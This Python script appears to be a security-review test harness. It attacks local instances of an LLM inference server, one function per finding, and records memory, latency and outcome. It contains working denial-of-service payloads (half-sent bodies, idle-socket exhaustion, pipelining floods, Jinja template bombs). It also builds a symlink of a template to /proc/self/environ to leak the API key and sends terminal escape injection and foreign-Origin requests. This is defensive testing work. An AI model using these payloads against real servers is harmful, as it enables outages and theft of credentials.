"""The attacks of the security review, one function per finding, each on a server of its own.

    python3 attacks.py --binaries target/release --label after --output after.md

Each row of the table: bytes sent, memory of both processes over their level before, memory per byte, the
most that another client's /health and its completions and chats of one token were delayed, the outcome. Loopback, built-in model,
one compute thread; at most 4 GiB of address space for each process. Linux alone, standard library alone.
"""

import argparse
import json
import multiprocessing
import os
import pty
import select
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time

from hostile import HOSTILE
from measuring import (
    KEY, MIB, Answer, Measured, Server, ask, children, connect, head, milliseconds, read_answer,
    status_field,
)

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..")
MODEL = os.path.join(ROOT, "builtin-model", "model")
CHAT, COMPLETIONS = "/v1/chat/completions", "/v1/completions"
ROWS = []
BINARIES = None


def row(finding, sent, measured, outcome):
    """Adds a line to the table. `measured` is None where only the outcome counts."""
    memory = measured.memory if measured else None
    delays = measured.delays() if measured and measured.with_probe else None
    if measured and measured.num_refused():
        outcome += f"; {measured.num_refused()} probes refused"
    if measured and not measured.server.is_up:
        outcome += f"; the server ended ({measured.server.process.returncode})"
    ROWS.append((finding, sent, memory, delays, outcome))
    print(table([ROWS[-1]])[-1], flush=True)


def table(rows):
    lines = ["| finding | bytes sent | memory, MiB | B per byte | delay of /health, ms | of a token, ms | outcome |",
             "|---|---|---|---|---|---|---|"]
    for finding, sent, memory, delays, outcome in rows:
        ratio = f"{memory / sent:,.1f}" if sent and memory is not None else ""
        memory = "" if memory is None else f"{memory / MIB:,.0f}"
        health, token = ("", "") if delays is None else (f"{d:,.0f}" for d in (delays[0], max(delays)))
        sent = f"{sent:,}" if sent else ""
        lines.append(f"| {finding} | {sent} | {memory} | {ratio} | {health} | {token} | {outcome} |")
    return lines


def told(answer):
    """An answer in a few words."""
    if not answer.status:
        return f"no answer ({answer.problem})"
    message = ""
    if answer.status >= 400:
        error = answer.json().get("error")
        message = (error.get("message", "") if isinstance(error, dict) else str(error))[:70]
        message = ": " + message.replace("|", "\\|").replace("\n", " ") if message else ""
    return f"{answer.status}{message}"


def post(finding, path, body, *flags, key="", times=1):
    """One request to a server of its own, or several at once."""
    body = json.dumps(body).encode()
    with Server(BINARIES, *flags) as server:
        server.warm_up()
        answers = []
        with Measured(server) as measured:
            send = lambda: answers.append(server.ask("POST", path, body, key=key))
            threads = [threading.Thread(target=send) for _ in range(times)]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()
            time.sleep(0.2)
        row(finding, times * len(body), measured, told(answers[0]))


def finding_1():
    ones = "1" * (4 * MIB)
    post("1 /tokenize, no key", "/tokenize", {"prompt": ones}, key=None)
    body = {"prompt": ones, "return_token_strs": True}
    post("1 /tokenize, key, return_token_strs", "/tokenize", body)
    body = {"prompt": ones, "truncate_prompt_tokens": 8, "max_tokens": 1}
    post("1 truncate_prompt_tokens", COMPLETIONS, body)


def finding_2():
    with Server(BINARIES) as server:
        server.warm_up()
        length, streams = 32 * MIB, []
        with Measured(server) as measured:
            piece = b" " * MIB
            sent = 0
            for _ in range(8):
                stream = connect(server.address)
                streams.append(stream)
                try:
                    stream.sendall(head("POST", "/tokenize", length, key=None))
                    for part in range(32):
                        stream.sendall(piece[1:] if part == 31 else piece)
                        sent += len(piece)
                except OSError:
                    pass  # Refused early.
            time.sleep(0.5)
            small = {"prompt": "Hi", "max_tokens": 1}
            keyed = [server.ask("POST", COMPLETIONS, small) for _ in range(10)]
            worst = max(keyed, key=lambda answer: answer.status)
        for stream in streams:
            stream.close()
        row("2 eight half-sent bodies, no key", sent, measured, f"a client with a key gets {told(worst)}")


def finding_3():
    for what, count, length in (("10,000 methods", 10_000, 8), ("40 methods of 1 MB", 40, 10**6)):
        with Server(BINARIES) as server:
            server.warm_up()
            with Measured(server) as measured:
                sent = 0
                for number in range(count):
                    method = f"A{number}".ljust(length, "Z")
                    try:
                        with connect(server.address) as stream:
                            stream.sendall(head(method, "/health", key=None))
                            read_answer(stream)
                    except OSError:
                        pass
                    sent += len(method)
                answer = server.ask("GET", "/metrics")
            row(f"3 {what}", sent, measured, f"/metrics has {answer.size:,} bytes ({answer.status})")


def finding_4():
    with Server(BINARIES) as server:
        server.warm_up()
        body = json.dumps({"model": "m" * (16 * MIB), "prompt": "Hi"}).encode()
        streams, sent = [], 0
        with Measured(server) as measured:
            for _ in range(20):
                stream = connect(server.address)
                stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                streams.append(stream)
                try:
                    stream.sendall(head("POST", COMPLETIONS, len(body)) + body)
                    sent += len(body)
                except OSError:
                    pass
            time.sleep(1.0)
            held = sum(status_field(p, "VmRSS") for p in measured.processes()) - measured.before
        row("4 twenty unread 404s that echo 16 MiB", sent, measured, f"{held / MIB:,.0f} MiB are held")
        for stream in streams:
            stream.close()
    with Server(BINARIES) as server:
        server.warm_up()
        streams, sent = [], 0
        with Measured(server) as measured:
            half_head = b"GET /health HTTP/1.1\r\nHost: x\r\nX: " + b"x" * (4 * MIB - 200)
            for _ in range(64):
                stream = connect(server.address)
                streams.append(stream)
                try:
                    stream.sendall(half_head)
                    sent += len(half_head)
                except OSError:
                    pass
            time.sleep(0.5)
            held = sum(status_field(p, "VmRSS") for p in measured.processes()) - measured.before
        row("4 sixty-four half heads, no key", sent, measured, f"{held / MIB:,.0f} MiB are held")
        for stream in streams:
            stream.close()
    with Server(BINARIES, "--max-connections", "20", "--client-timeout", "5") as server:
        # From another address than the attacker's; the same one where the limit is not by address.
        silent = [connect(server.address) for _ in range(20)]
        time.sleep(0.2)
        host, port = server.address.rsplit(":", 1)
        start = time.monotonic()
        with socket.socket() as stream:
            stream.settimeout(30)
            stream.bind(("127.0.0.2", 0))
            stream.connect((host, int(port)))
            stream.sendall(head("GET", "/health"))
            answer = read_answer(stream)
        seconds = time.monotonic() - start
        outcome = f"/health for another address after {1000 * seconds:,.0f} ms: {told(answer)}"
        ROWS.append(("4 twenty silent sockets of 20", 0, None, [1000 * seconds], outcome))
        print(table([ROWS[-1]])[-1], flush=True)
        for stream in silent:
            stream.close()


def large_schema(size):
    """A schema of about so many bytes."""
    properties, used = {}, 0
    while used < size:
        name = f"property_{len(properties)}"
        properties[name] = {"type": "string", "maxLength": 20}
        used += 2 * len(name) + 36
    return {"type": "object", "properties": properties}


def finding_5():
    # Fewer than the review's 60 kB and 16,384: the numbers per byte are what counts.
    ids = [number % 4096 for number in range(12_000)]
    body = {"prompt": "Hi", "max_tokens": 1, "n": 16_384, "allowed_token_ids": ids}
    post("5 n and allowed_token_ids", COMPLETIONS, body)
    body = {"prompt": "Hi", "max_tokens": 1, "n": 4096,
            "structured_outputs": {"json": large_schema(30_000)}}
    post("5 n and a schema", COMPLETIONS, body)
    body = {"prompt": ["Hi"] * 1024, "max_tokens": 1, "stop": ["x" * 100] * 100}
    post("5 1,024 prompts and stop strings", COMPLETIONS, body)


def finding_6():
    common = {"prompt": "Hi", "ignore_eos": True}
    body = {**common, "max_tokens": 200, "stop": "x" * (16 * MIB)}
    post("6 a stop string of 16 MiB", COMPLETIONS, body)
    body = {**common, "max_tokens": 32, "n": 64, "stop": "x" * MIB}
    post("6 a stop string of 1 MiB, n 64", COMPLETIONS, body)
    ids = [number % 4096 for number in range(900_000)]
    body = {**common, "max_tokens": 8, "n": 64, "allowed_token_ids": ids}
    post("6 900,000 allowed_token_ids, n 64", COMPLETIONS, body)


def finding_7():
    messages = [{"role": "user", "content": "Hi"}]
    searches = "{% set s = messages[0].content * 4000000 %}{% for i in range(2400) %}" \
        "{{ 'HiHiHiHiHiHiHiHiHiHiHiHiHiHiHiHb' in s }}{% endfor %}"
    doubling = "{% set ns = namespace(s='x' * 1024) %}" \
        "{% for i in range(20) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}"
    replace = "{% set a = 'x' * 30000 %}{{ a|replace('x', a)|length }}"
    for what, template, path, key in (
        ("indent", "{{ 'x\ny'|indent(1125899906842624) }}", "/tokenize", None),
        ("6,000 minus signs", "{{ " + "-" * 6000 + "1 }}", CHAT, ""),
        ("6,000 brackets", "{{ " + "[" * 6000 + "]" * 6000 + " }}", CHAT, ""),
        ("~ doubled 20 times", doubling, CHAT, ""),
        ("replace 30,000 x 30,000", replace, CHAT, ""),
        ("2,400 searches in 8 MB, four times", searches, CHAT, ""),
        ("format", "{{ '%2000000000d'|format(1) }}", CHAT, ""),
    ):
        body = {"messages": messages, "chat_template": template}
        body.update({} if path == "/tokenize" else {"max_tokens": 1})
        flags = ["--trust-request-chat-template", "--request-timeout", "20"]
        times = 4 if template is searches else 1
        post(f"7 template: {what}", path, body, *flags, key=key, times=times)
    with tempfile.TemporaryDirectory() as folder:
        nested = "{{ " + "-" * 100_000 + "1 }}"
        model = model_folder(folder, template=nested)
        with Server(BINARIES, model=model) as server:
            code = server.ends_within(0.5)
            answer = server.ask("POST", CHAT, {"messages": messages}) if code is None else Answer()
            outcome = f"ended with {code}" if code is not None else f"serves; chat: {told(answer)}"
            row("7 a model's template, nested 100,000 deep", 0, None, outcome)


def model_folder(folder, template=None, tokenizer=None):
    """A copy of the built-in model, with another template or tokenizer."""
    model = os.path.join(folder, "model")
    shutil.copytree(MODEL, model)
    if template is not None:
        with open(os.path.join(model, "chat_template.jinja"), "w") as file:
            file.write(template)
    if tokenizer is not None:
        path = os.path.join(model, "tokenizer.json")
        with open(path) as file:
            whole = json.load(file)
        whole.update(tokenizer)
        with open(path, "w") as file:
            json.dump(whole, file)
    return model


def finding_8():
    with tempfile.TemporaryDirectory() as folder:
        model = model_folder(folder)
        os.symlink("/proc/self/environ", os.path.join(model, "chat_template.jinja"))
        env = {"FORMWORK_API_KEY": KEY}
        with Server(BINARIES, model=model, key=False, env=env) as server:
            if not server.address:
                row("8 chat_template.jinja to /proc/self/environ", 0, None, "refused at the start")
                return
            body = {"messages": [{"role": "user", "content": "Hi"}], "return_token_strs": True}
            answer = server.ask("POST", "/tokenize", body, key=KEY)
            text = "".join(answer.json().get("token_strs") or [])
            outcome = "the API key is in the answer" if KEY in text else f"no key; {told(answer)}"
            row("8 chat_template.jinja to /proc/self/environ", 0, None, outcome)


def finding_10():
    others = "another-tenants-key"
    with Server(BINARIES, "--api-key", others, "--enable-prompt-tokens-details") as server:
        body = {"prompt": "A secret of one tenant. " * 40, "max_tokens": 1}
        server.ask("POST", COMPLETIONS, body)
        answer = server.ask("POST", COMPLETIONS, body, key=others)
        details = (answer.json().get("usage") or {}).get("prompt_tokens_details") or {}
        cached = details.get("cached_tokens", 0)
        metrics = server.ask("GET", "/metrics", key=None)
        row("10 the prefix cache across keys", 0, None,
            f"another key's prompt: {cached} tokens from the cache; /metrics without a key {metrics.status}")


def finding_11():
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "precious")
        with open(path, "w") as file:
            file.write("data")
        with Server(BINARIES, "--uds", path) as server:
            is_socket = stat.S_ISSOCK(os.stat(path).st_mode)
            outcome = "the file is gone" if is_socket else "the file is left alone"
        path = os.path.join(folder, "socket")
        before = os.umask(0)
        try:
            with Server(BINARIES, "--uds", path) as server:
                mode = stat.S_IMODE(os.stat(path).st_mode) if os.path.exists(path) else 0
        finally:
            os.umask(before)
        row("11 --uds on a regular file", 0, None, f"{outcome}; mode of a socket {mode:o}")


def starting(finding, model, sent):
    """Memory and time of a start with this model."""
    peak, stopped = [0], threading.Event()
    server_process = []

    def sample():
        while not stopped.wait(0.01):
            for parent in children(os.getpid()):
                total = status_field(parent, "VmHWM")
                total += sum(status_field(child, "VmHWM") for child in children(parent))
                peak[0] = max(peak[0], total)

    thread = threading.Thread(target=sample, daemon=True)
    thread.start()
    with Server(BINARIES, model=model, log=os.path.join(tempfile.gettempdir(), "start.log")) as server:
        code = server.ends_within(0.5)
        outcome = f"ended with {code}" if code is not None else "serves"
        stopped.set()
        thread.join()
        ROWS.append((finding, sent, peak[0], None, f"{outcome} after {server.startup_seconds:.1f} s"))
        print(table([ROWS[-1]])[-1], flush=True)


def finding_12():
    charsmap = {"normalizer": {"type": "Precompiled", "precompiled_charsmap": "/////wAAAAAAAAAAAAAAAAAAAAA="}}
    replaces = [{"type": "Replace", "pattern": {"String": "e"}, "content": "e" * 64}] * 5
    growing = {"normalizer": {"type": "Sequence", "normalizers": replaces}}
    with tempfile.TemporaryDirectory() as folder:
        model = model_folder(folder, tokenizer=charsmap)
        starting("12 a Precompiled charsmap of 20 bytes (whole processes)", model, 0)
    with tempfile.TemporaryDirectory() as folder:
        model = model_folder(folder, tokenizer=growing)
        with Server(BINARIES, model=model) as server:
            if server.ends_within(0.2) is not None or not server.address:
                row("12 five Replace normalizers", 0, None, "refused at the start")
                return
            with Measured(server) as measured:
                answer = server.ask("POST", "/tokenize", {"prompt": "e" * 10})
            row("12 five Replace normalizers", 10, measured, told(answer))


def finding_13():
    with tempfile.TemporaryDirectory() as folder:
        model = model_folder(folder)
        weights = os.path.join(model, "model.safetensors")
        with open(weights, "rb") as file:
            header = json.loads(file.read(int.from_bytes(file.read(8), "little")))
        os.rename(weights, os.path.join(model, "model.0.safetensors"))
        names = {name: "model.0.safetensors" for name in header if name != "__metadata__"}
        for number in range(200_000):
            shard = os.path.join(model, f"{number}.safetensors")
            if number % 50_000 == 0:  # A file has at most so many names.
                first = shard
                with open(first, "wb") as file:
                    file.write((2).to_bytes(8, "little") + b"{}")
            else:
                os.link(first, shard)
            names[f"tensor{number}"] = f"{number}.safetensors"
        with open(os.path.join(model, "model.safetensors.index.json"), "w") as file:
            json.dump({"metadata": {}, "weight_map": names}, file)
        starting("13 an index of 200,000 shards (whole processes)", model, 0)


def finding_14():
    sequence = "\x1b]52;c;c2VjcmV0\x07\x1b]0;title\x07\u009b31m"
    listener = socket.create_server(("127.0.0.1", 0))
    model = {"object": "list", "data": [{"id": "m", "object": "model"}]}
    delta = {"choices": [{"index": 0, "delta": {"content": sequence + "Hi"}, "finish_reason": None}]}
    end = {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
    stream = "".join(f"data: {json.dumps(event)}\n\n" for event in (delta, end)) + "data: [DONE]\n\n"

    def serve():
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            request = connection.recv(65_536).decode("latin-1")
            body, kind = (stream, "text/event-stream") if request.startswith("POST") else \
                (json.dumps(model), "application/json")
            connection.sendall(
                f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n"
                f"Connection: close\r\n\r\n{body}".encode()
            )
            connection.close()

    threading.Thread(target=serve, daemon=True).start()
    master, slave = pty.openpty()
    url = f"http://127.0.0.1:{listener.getsockname()[1]}"
    process = subprocess.Popen(
        [os.path.join(BINARIES, "formwork"), "chat", "--url", url],
        stdin=subprocess.PIPE, stdout=slave, stderr=subprocess.DEVNULL,
    )
    process.stdin.write(b"Hi\n")
    process.stdin.close()
    process.wait(20)
    os.close(slave)
    written = b""
    try:
        while chunk := os.read(master, 65_536):
            written += chunk
    except OSError:
        pass
    os.close(master)
    listener.close()
    raw = b"\x1b]52" in written or b"\x1b]0" in written
    row("14 terminal sequences in an answer", 0, None, "passed raw" if raw else
        f"filtered: {written[-40:]!r}".replace("|", "\\|"))


def finding_15():
    with Server(BINARIES, "--host", "0.0.0.0", key=False) as server:
        address = "127.0.0.1:" + server.address.rsplit(":", 1)[1]
        body = json.dumps({"prompt": "Hi", "max_tokens": 1}).encode()

        def send(host, *headers):
            lines = [f"POST {COMPLETIONS} HTTP/1.1", f"Host: {host}", "Connection: close",
                     f"Content-Length: {len(body)}", *headers]
            with connect(address) as stream:
                stream.sendall(("\r\n".join(lines) + "\r\n\r\n").encode() + body)
                return read_answer(stream).status

        kind, foreign = "Content-Type: application/json", "Origin: http://evil.example"
        site = "Sec-Fetch-Site: same-origin"
        outcome = (f"no Content-Type {send('127.0.0.1')}; foreign Origin {send('127.0.0.1', kind, foreign)}; "
                   f"a browser at a foreign Host {send('evil.example', kind, site)}; plain {send('127.0.0.1', kind)}")
        row("15 requests of foreign web pages on 0.0.0.0", 0, None, outcome)


def finding_17():
    with tempfile.TemporaryDirectory() as folder:
        model = model_folder(folder)
        log = os.path.join(folder, "log")
        flags = ["--log-format", "json", "--enable-log-requests", "--max-log-len", "200"]
        env = {"FORMWORK_API_KEY": KEY}
        with Server(BINARIES, *flags, model=model, key=False, env=env, log=log) as server:
            metrics = server.ask("GET", "/metrics", key=None)
            tokenize = server.ask("POST", "/tokenize", {"prompt": "a", "model": "x"}, key=None)
            named = [path for path, answer in (("/metrics", metrics), ("/tokenize", tokenize))
                     if folder.encode() in answer.body]
            with open(f"/proc/{server.core}/environ", "rb") as environ:
                inherited = KEY.encode() in environ.read()
            server.ask("POST", COMPLETIONS, {"prompt": "\u009b31m \u202e", "max_tokens": 1}, key=KEY)
            time.sleep(0.2)
            with open(log, "rb") as file:
                text = file.read()
            raw = "\u009b".encode() in text or "\u202e".encode() in text
        row("17 what is told without a key", 0, None,
            f"the model's path in {', '.join(named) or 'nothing'}; key in the core's environment: "
            f"{'yes' if inherited else 'no'}; raw C1 or bidi in the log: {'yes' if raw else 'no'}")


def pipeline(address, count, path, seconds):
    """Sends requests without a key over `count` connections, as many as these take, and reads the answers."""
    host, port = address.rsplit(":", 1)
    requests = f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 2000
    streams, events = {}, select.epoll()
    for _ in range(count):
        stream = socket.create_connection((host, int(port)), source_address=("127.0.0.2", 0))
        stream.setblocking(False)
        streams[stream.fileno()] = stream
        events.register(stream, select.EPOLLIN | select.EPOLLOUT)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for number, ready in events.poll(0.05):
            try:
                if ready & select.EPOLLOUT:
                    streams[number].send(requests)
                if ready & select.EPOLLIN:
                    streams[number].recv(MIB)
            except OSError:
                events.unregister(number)
        time.sleep(0.002)


def finding_18():
    for count, path in ((2, "/v1/none"), (8, "/health"), (400, "/v1/none")):
        with Server(BINARIES) as server:
            server.warm_up()
            with Measured(server) as measured:
                attack = multiprocessing.Process(target=pipeline, args=(server.address, count, path, 3.0))
                attack.start()
                attack.join()
            row(f"18 {count} connections without a key that pipeline {path}", 0, measured, "")


def idle():
    """The probe on an idle server: what noise there is."""
    with Server(BINARIES) as server:
        server.warm_up()
        with Measured(server) as measured:
            time.sleep(5)
        during = sum(measured.latencies, [])
        row("none: an idle server", 0, measured,
            f"probe p50 {milliseconds(during, 0.5):.1f}, p99 {milliseconds(during, 0.99):.1f} ms")


def hostile_requests():
    """The rule of time over requests that each find something dear, on one server."""
    flags = ["--trust-request-chat-template", "--request-timeout", "10"]
    with Server(BINARIES, *flags) as server:
        server.warm_up()
        for what, path, body in HOSTILE:
            body = body() if callable(body) else body
            body = body if isinstance(body, bytes) else json.dumps(body).encode()
            with Measured(server, idle=0.3) as measured:
                answer = server.ask("POST", path, body)
                time.sleep(0.1)
            row(f"hostile: {what}", len(body), measured, told(answer))
            if not server.is_up:
                return


FINDINGS = {
    "0": idle, "hostile": hostile_requests, "1": finding_1, "2": finding_2, "3": finding_3, "4": finding_4, "5": finding_5,
    "6": finding_6, "7": finding_7, "8": finding_8, "10": finding_10, "11": finding_11,
    "12": finding_12, "13": finding_13, "14": finding_14, "15": finding_15, "17": finding_17, "18": finding_18,
}


def main():
    global BINARIES
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("--binaries", default=os.path.join(ROOT, "target", "release"))
    parser.add_argument("--only", default="", help="findings, such as 1,7")
    parser.add_argument("--label", default="")
    parser.add_argument("--output", help="file for the table")
    args = parser.parse_args()
    BINARIES = args.binaries
    for name in args.only.split(",") if args.only else FINDINGS:
        try:
            FINDINGS[name]()
        except (OSError, AssertionError, ValueError) as error:
            row(f"{name} (not measured)", 0, None, f"{type(error).__name__}: {error}")
    text = "\n".join([f"## {args.label}".rstrip(), "", *table(ROWS), ""])
    if args.output:
        with open(args.output, "w") as file:
            file.write(text)


if __name__ == "__main__":
    sys.exit(main())
